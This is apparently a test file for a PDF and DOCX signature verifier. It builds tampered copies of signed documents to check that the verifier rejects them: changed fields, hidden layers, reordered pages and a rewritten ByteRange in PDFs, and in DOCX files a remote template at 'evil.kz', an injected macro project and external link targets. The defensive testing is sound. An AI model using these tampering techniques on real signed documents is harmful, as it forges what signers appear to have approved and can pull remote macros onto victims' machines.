/**
 * Attacks that leave every signed byte in place and change what is seen: fields and their looks, layers, order and boxes of
 * pages, objects overridden from packed ones, and in packages what leads out of them.
 */
import { unzipSync } from 'fflate'
import { PDFDocument, PDFName, StandardFonts } from 'pdf-lib'
import { beforeAll, describe, expect, test } from 'vitest'
import { signFile, verifyFile } from '../../../electron/signing/index.ts'
import { PdfFile } from '../../../electron/signing/pdf/file.ts'
import type { PdfValue } from '../../../electron/signing/pdf/syntax.ts'
import {
  appendUpdate,
  pdfArray,
  pdfDict,
  pdfName,
  pdfNumber,
  pdfRef,
  pdfText,
  streamObject,
  valueObject,
} from '../../../electron/signing/pdf/write.ts'
import type { NewObject } from '../../../electron/signing/pdf/write.ts'
import { pack, readZip, writeZip } from '../../../electron/signing/docx/zip.ts'
import { bytesOf, complaints, judge, sampleBlock, sampleDocx, signerOf } from './tools.ts'

const honest = judge('Судья', 'p256')
const id = new Uint8Array(16)
let signed: Uint8Array
let file: PdfFile

/** A form with a text field, a layer that can be switched off, two pages, then a visible signature. */
beforeAll(async () => {
  const made = await PDFDocument.create()
  const font = await made.embedFont(StandardFonts.Helvetica)
  const [first] = [made.addPage(), made.addPage()]
  first?.drawText('5 years', { font })
  const field = made.getForm().createTextField('term')
  field.setText('5')
  if (first) field.addToPage(first, { x: 50, y: 500, width: 100, height: 20 })
  const layer = made.context.register(made.context.obj({ Type: 'OCG', Name: 'a' }))
  made.catalog.set(PDFName.of('OCProperties'), made.context.obj({ OCGs: [layer], D: { ON: [layer] } }))
  const visible = { page: 1, rect: [300, 40, 480, 100] as const, appearance: sampleBlock() }
  const bytes = await made.save({ useObjectStreams: false })
  signed = await signFile(bytes, 'pdf', signerOf(honest), { now: new Date(), room: 4096, visible })
  file = new PdfFile(signed)
})

const update = (...objects: NewObject[]): Uint8Array => appendUpdate(file, objects, id).bytes
const dictOf = (number: number) => new Map(file.dict(pdfRef(number)))
const withEntry = (number: number, key: string, value: PdfValue): NewObject =>
  valueObject(number, { t: 'dict', v: dictOf(number).set(key, value) })
const numberOf = (value: PdfValue | undefined): number => {
  if (value?.t !== 'ref') throw new Error('not a reference')
  return value.n
}
const root = () => numberOf(file.trailer.get('Root'))
/** Object of a field of the form: the text field is the first, the signature the last. */
function fieldNumber(place: number): number {
  const fields = file.resolve(file.dict(file.catalog.get('AcroForm'))?.get('Fields'))
  return numberOf(fields.t === 'arr' ? fields.v.at(place) : undefined)
}
const textField = () => fieldNumber(0)
const signatureField = () => fieldNumber(-1)
const appearanceOf = (number: number) => numberOf(file.dict(dictOf(number).get('AP'))?.get('N'))

function expectCaught(bytes: Uint8Array): void {
  const report = verifyFile(bytes)
  expect(report.ok).toBe(false)
  expect(complaints(report).length).toBeGreaterThan(0)
}

test('before the attacks it is valid', () => {
  expect(verifyFile(signed).ok).toBe(true)
})

describe('PDF: what is seen changes, what was signed does not', () => {
  const nine = streamObject(0, new Map(), bytesOf('BT /F 12 Tf (9) Tj ET'))
  test('another value in a field', () => {
    expectCaught(update(withEntry(textField(), 'V', pdfText('9'))))
  })
  test('the same value, another look of the field', () => {
    const widget = file.resolve(dictOf(textField()).get('Kids'))
    const holder = widget.t === 'arr' ? numberOf(widget.v[0]) : textField()
    expectCaught(update({ ...nine, number: appearanceOf(holder) }))
  })
  test('a field that hides itself', () => {
    expectCaught(update(withEntry(textField(), 'F', pdfNumber(2))))
  })
  test('another name in the visible block of the signature', () => {
    expectCaught(update({ ...nine, number: appearanceOf(signatureField()) }))
  })
  test('the visible block moved over the text', () => {
    expectCaught(update(withEntry(signatureField(), 'Rect', pdfArray([0, 400, 600, 600].map(pdfNumber)))))
  })
  test('a layer switched off', () => {
    const off = pdfDict({ OCGs: pdfArray([]), D: pdfDict({ BaseState: pdfName('OFF') }) })
    expectCaught(update(withEntry(root(), 'OCProperties', off)))
  })
  test('pages in another order, told by their parent', () => {
    const parent = numberOf(file.catalog.get('Pages'))
    const kids = file.resolve(dictOf(parent).get('Kids'))
    expectCaught(update(withEntry(parent, 'Kids', pdfArray(kids.t === 'arr' ? kids.v.toReversed() : []))))
  })
  test.each([
    ['CropBox', pdfArray([0, 0, 10, 10].map(pdfNumber))],
    ['Rotate', pdfNumber(180)],
    ['UserUnit', pdfNumber(20)],
  ] as const)('the page shown otherwise: %s', (key, value) => {
    expectCaught(update(withEntry(file.pages()[0] ?? 0, key, value)))
  })
  test('a page labelled, a name tree, a reading order, viewer settings', () => {
    for (const key of ['PageLabels', 'Names', 'StructTreeRoot', 'ViewerPreferences', 'Outlines', 'Perms'])
      expectCaught(update(withEntry(root(), key, pdfDict({ a: pdfNumber(1) }))))
  })
  test('another range, told by a reference', () => {
    const text = Buffer.from(signed).toString('latin1')
    const at = /\/ByteRange ?\[[^\]]*\]/.exec(text)?.[0] ?? ''
    expect(at.length).toBeGreaterThan(20)
    const aside = Uint8Array.from(Buffer.from(text.replace(at, '/ByteRange 1 0 R'.padEnd(at.length)), 'latin1'))
    expectCaught(aside)
  })
  test('a second form beside the first', () => {
    const form = new Map(file.dict(file.catalog.get('AcroForm'))).set('XFA', pdfText('<xfa/>'))
    expectCaught(update(withEntry(root(), 'AcroForm', { t: 'dict', v: form })))
  })
})

describe('DOCX: what leads out of the signed parts', () => {
  let docx: Uint8Array
  beforeAll(async () => {
    docx = await signFile(await sampleDocx(), 'docx', signerOf(honest), { now: new Date() })
  })
  const text = (name: string) => Buffer.from(unzipSync(docx)[name] ?? []).toString('utf8')
  function edited(changes: Record<string, string>): Uint8Array {
    const entries = new Map(readZip(docx))
    for (const [name, words] of Object.entries(changes)) entries.set(name, pack(name, bytesOf(words), 0))
    return writeZip(entries.values())
  }
  const RELS = 'word/_rels/document.xml.rels'
  const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

  test('before the attacks it is valid', () => {
    expect(verifyFile(docx).ok).toBe(true)
  })
  test('a part of the package becomes one of the internet', () => {
    const outside = text(RELS).replace(/(Target="header1\.xml")/, '$1 TargetMode="External"')
    expect(outside).not.toBe(text(RELS))
    expectCaught(edited({ [RELS]: outside }))
  })
  test('the same target in other letters', () => {
    expectCaught(edited({ [RELS]: text(RELS).replace('header1.xml', 'Header1.xml') }))
    expectCaught(edited({ [RELS]: text(RELS).replace('header1.xml', '%68eader1.xml') }))
    expectCaught(edited({ [RELS]: text(RELS).replace('"header1.xml"', '"/word/header1.xml"') }))
  })
  test('a template taken from elsewhere', () => {
    const rels = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${OFFICE}/attachedTemplate" Target="http://evil.kz/x.dotm" TargetMode="External"/></Relationships>`
    expectCaught(edited({ 'word/_rels/settings.xml.rels': rels }))
  })
  test('a document of its own inside: foreign content with its type', () => {
    const types = text('[Content_Types].xml').replace(
      '</Types>',
      '<Default Extension="html" ContentType="text/html"/></Types>',
    )
    const rels = text(RELS).replace(
      '</Relationships>',
      `<Relationship Id="x9" Type="${OFFICE}/aFChunk" Target="x.html"/></Relationships>`,
    )
    expectCaught(edited({ '[Content_Types].xml': types, [RELS]: rels, 'word/x.html': '<p>30 жыл</p>' }))
    expectCaught(edited({ '[Content_Types].xml': types, 'word/x.html': '<p>30 жыл</p>' }))
  })
  test('another type for all parts of an ending', () => {
    const types = text('[Content_Types].xml')
    const changed = types.replace(/(<Default ContentType=")[^"]*(" Extension="(?:xml|rels)")/, '$1text/plain$2')
    expect(changed).not.toBe(types)
    const report = verifyFile(edited({ '[Content_Types].xml': changed }))
    expect(report.ok).toBe(false)
  })
  test('macros beside the signed parts', () => {
    const root = text('_rels/.rels')
    const rels = root.replace(
      '</Relationships>',
      `<Relationship Id="v" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="word/vbaProject.bin"/></Relationships>`,
    )
    expectCaught(edited({ '_rels/.rels': rels, 'word/vbaProject.bin': 'x' }))
  })
})
